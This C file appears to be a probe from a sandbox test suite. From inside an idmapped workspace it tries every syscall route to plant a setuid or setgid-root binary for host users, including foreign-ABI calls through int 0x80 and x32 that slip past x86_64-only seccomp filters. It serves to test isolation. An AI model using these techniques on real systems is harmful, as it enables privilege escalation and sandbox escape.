/* attack: make a setuid/setgid-root binary in /work for host users to run (idmapped workspace), every way to set the bits */
#include "attack.h"
#include <linux/openat2.h>
#include <sys/sysmacros.h>

static int copy_self_fd(int out)
{
	char buf[65536];
	int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	if (in < 0 || out < 0)
		return -1;
	ssize_t n;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			return -1;
	close(in);
	return 0;
}

static int copy_self(const char *dst)
{
	int out = open(dst, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	int r = copy_self_fd(out);
	close(out);
	return r;
}

static void tried(const char *how, long r)
{
	note("%s: %s", how, r >= 0 ? "returned success (the host check decides)" : strerror(errno));
}

/* Paths for the 32-bit ABIs must live below 4 GiB: a static, non-PIE binary's data does. */
static char p_i386[] = "/work/suid-int80";
static char p_x32[] = "/work/suid-x32";

int main(int argc, char **argv)
{
	if (argc > 1 && strcmp(argv[1], "report") == 0) {
		/* Run by the host check as an unprivileged host user. */
		printf("ran as uid %d with euid %d egid %d\n", (int)getuid(), (int)geteuid(), (int)getegid());
		return geteuid() == 0 || getegid() == 0 ? ATTACK_HARM : ATTACK_HELD;
	}
	copy_self("/work/suid-chmod");
	tried("chmod 04755", chmod("/work/suid-chmod", 04755));
	copy_self("/work/sgid-chmod");
	tried("chmod 02755", chmod("/work/sgid-chmod", 02755));
	int fd = open("/work/suid-fchmod", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
	copy_self_fd(fd);
	tried("fchmod 04755", fchmod(fd, 04755));
	close(fd);
	copy_self("/work/suid-fchmodat");
	tried("fchmodat 04755", fchmodat(AT_FDCWD, "/work/suid-fchmodat", 04755, 0));
	copy_self("/work/suid-fchmodat2");
	tried("fchmodat2 04755", syscall(452 /* fchmodat2 */, AT_FDCWD, "/work/suid-fchmodat2", 04755, 0));
	/* Files created setuid are left empty: the kernel strips the bit on any later write by
	 * us, but not on a write by host root (CAP_FSETID), e.g. `cat x > planted` on the host. */
	fd = open("/work/suid-open", O_WRONLY | O_CREAT | O_CLOEXEC, 06755);
	tried("open(O_CREAT, 06755)", fd);
	close(fd);
	fd = (int)syscall(SYS_creat, "/work/suid-creat", 04755);
	tried("creat(04755)", fd);
	close(fd);
	struct open_how how = { .flags = O_WRONLY | O_CREAT | O_CLOEXEC, .mode = 04755 };
	fd = (int)syscall(SYS_openat2, AT_FDCWD, "/work/suid-openat2", &how, sizeof(how));
	tried("openat2(mode 04755)", fd);
	close(fd);
	tried("mknod(S_IFREG|04755)", mknod("/work/suid-mknod", S_IFREG | 04755, 0));
	fd = open("/work", O_WRONLY | O_TMPFILE | O_CLOEXEC, 04755);
	tried("open(O_TMPFILE, 04755)", fd);
	if (fd >= 0) {
		char p[64];
		snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
		linkat(AT_FDCWD, p, AT_FDCWD, "/work/suid-tmpfile", AT_SYMLINK_FOLLOW);
	}
	/* The mode argument's high bits, which the kernel ignores. */
	copy_self("/work/suid-highbits");
	tried("chmod (1<<32)|04755", syscall(SYS_chmod, "/work/suid-highbits", (1UL << 32) | 04755));
#if defined(__x86_64__)
	/* The i386 and x32 system call ABIs, which a filter for x86_64 alone might not cover. */
	/* In children: a filter may kill the caller for a foreign ABI, which is a defence too. */
	copy_self(p_i386);
	pid_t c = fork();
	if (c == 0) {
		long r;
		__asm__ volatile("int $0x80" : "=a"(r) : "a"(15 /* i386 chmod */), "b"(p_i386), "c"(04755) : "memory");
		note("int 0x80 chmod returned %ld", r);
		_exit(0);
	}
	int st;
	waitpid(c, &st, 0);
	if (WIFSIGNALED(st))
		note("int 0x80 chmod: killed by signal %d", WTERMSIG(st));
	copy_self(p_x32);
	c = fork();
	if (c == 0) {
		tried("x32 chmod", syscall(0x40000000 | 90 /* x32 chmod */, p_x32, 04755));
		_exit(0);
	}
	waitpid(c, &st, 0);
	if (WIFSIGNALED(st))
		note("x32 chmod: killed by signal %d", WTERMSIG(st));
#endif
	mkdir("/work/sgid-dir", 0777);
	tried("chmod dir 02777", chmod("/work/sgid-dir", 02777));
	return ATTACK_HELD;
}
